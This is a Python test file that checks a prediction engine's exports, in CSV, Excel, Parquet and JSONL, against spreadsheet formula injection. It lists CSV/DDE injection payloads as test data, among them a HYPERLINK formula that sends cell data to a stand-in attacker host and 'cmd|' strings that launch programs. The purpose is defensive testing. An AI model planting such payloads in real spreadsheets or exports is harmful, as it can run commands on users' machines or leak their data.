"""Threat 16: no export runs in a spreadsheet, headers too; numbers stay numbers; other formats keep texts whole."""

from __future__ import annotations

import io
import json
from collections.abc import Callable
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from engine.results.files import csv_text
from tests.conftest import Predicting
from tests.engine.making import TABULAR_CARD, write_model
from tests.threats.hostile import CODE

FORMULAS = (
    '=HYPERLINK("http://evil.example/"&A1)',
    "=cmd|'/c calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)",
    " =1+1",
    "＝1+1",
)
INSIDE = {  # a spreadsheet that parts cells at semicolons or tabs knows no quote inside of one
    "1;=1+1": "1;'=1+1",
    "\t=1+1": "'\t'=1+1",
    "\r=1+1": "'\r'=1+1",
    "\n=1+1": "'\n'=1+1",
    "a\t@SUM(1)\t=2": "a\t'@SUM(1)\t'=2",
    "a\n=cmd|' /C calc'!A0": "a\n'=cmd|' /C calc'!A0",
    "x; -2+3+cmd|' /C calc'!A0;-4": "x; '-2+3+cmd|' /C calc'!A0;-4",
}
LISTS = ("1;-2;+3", "a;b", "list:\n- milk\n- eggs")
PLAIN = ("-12.5", "+1e-5", "-3", "a=b", "1,5", "−4", "'quoted", "http://evil.example/x", "mailto:x@evil.example")
HARMLESS = (*LISTS, *PLAIN)
OWN = "=own()"


@pytest.fixture
def run(predicting: Predicting, tmp_path: Path) -> Callable[[str], Path]:
    """Predicts rows with such texts in a column of the visitor's own; gives the file of a format."""
    path = tmp_path / "rows.csv"
    texts = [*FORMULAS, *INSIDE, *HARMLESS]
    frame = pl.DataFrame({"a": range(len(texts)), "b": [-1.5] * len(texts), OWN: texts, "@note": texts})
    frame.write_csv(path, quote_style="always")
    card = {**TABULAR_CARD, "signature": [{"name": "a"}, {"name": "b"}]}
    code = CODE.replace("nn.Linear(6, 6)", "nn.Linear(2, 1)")
    models = tmp_path / "models"
    write_model(models / "sum", code, card, "x")
    engine = predicting.engine
    engine._registry = type(engine._registry)((models,))
    engine.settings = engine.settings.model_copy(update={"models": (models,)})
    engine._parts = None
    made = predicting.run("sum", [path])
    return lambda suffix: engine.export(made.id, suffix)


def test_csv_and_excel_run_nothing(run: Callable[[str], Path]) -> None:
    table = pl.read_csv(run("csv"), infer_schema=False)
    assert {f"'{OWN}", "'@note"} <= set(table.columns)
    for name in (f"'{OWN}", "'@note"):
        assert table[name].to_list() == [f"'{text}" for text in FORMULAS] + [*INSIDE.values(), *HARMLESS]
    assert set(table["b"]) == {"-1.5"}, "a number stays one"
    book = openpyxl.load_workbook(run("xlsx"))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert not [cell for cell in cells if cell.hyperlink]

    places = {cell.value: cell.column for cell in book.active[1]}
    assert all(row[places["b"] - 1].data_type == "n" for row in book.active.iter_rows(min_row=2))


def test_small_tables_run_nothing_either() -> None:
    """A chart's numbers, a template: what is made of a frame at once."""
    assert csv_text(pl.DataFrame({OWN: [FORMULAS[0], "-12.5"], "b": [-1.5, 2.0]})).splitlines() == [
        f"'{OWN},b",
        f'"\'{FORMULAS[0].replace(chr(34), chr(34) * 2)}",-1.5',
        "-12.5,2.0",
    ]


def test_headers_run_nothing_and_stay_different() -> None:
    frame = pl.DataFrame([[1], [2], [3]], schema=["=a", "'=a", "x;=b"])
    assert csv_text(frame).splitlines()[0] == "''=a,'=a,x;'=b"


def test_formats_for_programs_keep_texts_to_the_sign(run: Callable[[str], Path]) -> None:
    wanted = [*FORMULAS, *INSIDE, *HARMLESS]
    assert pl.read_parquet(run("parquet"))[OWN].to_list() == wanted
    assert [json.loads(line)[OWN] for line in io.StringIO(run("jsonl").read_text())] == wanted
